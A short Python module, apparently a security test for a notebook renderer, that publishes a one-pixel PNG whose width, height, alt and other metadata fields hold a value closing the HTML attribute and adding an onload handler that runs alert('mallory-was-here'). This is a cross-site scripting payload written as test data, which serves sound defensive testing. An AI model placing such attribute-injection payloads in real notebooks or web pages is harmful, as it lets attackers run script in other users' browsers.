"""Gives images sizes and descriptions that end the attribute and begin a handler."""

CODE = """
from IPython.display import publish_display_data
pixel = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5"
    "ErkJggg=="
)
for key in ("width", "height", "alt", "unconfined", "needs_background"):
    bad = '1" onload="alert(\\'mallory-was-here\\')" x="'
    publish_display_data({"image/png": pixel}, {"image/png": {key: bad}})
    publish_display_data({"image/png": pixel}, {key: bad})
"""


def submit(work):
    work.insert(CODE)
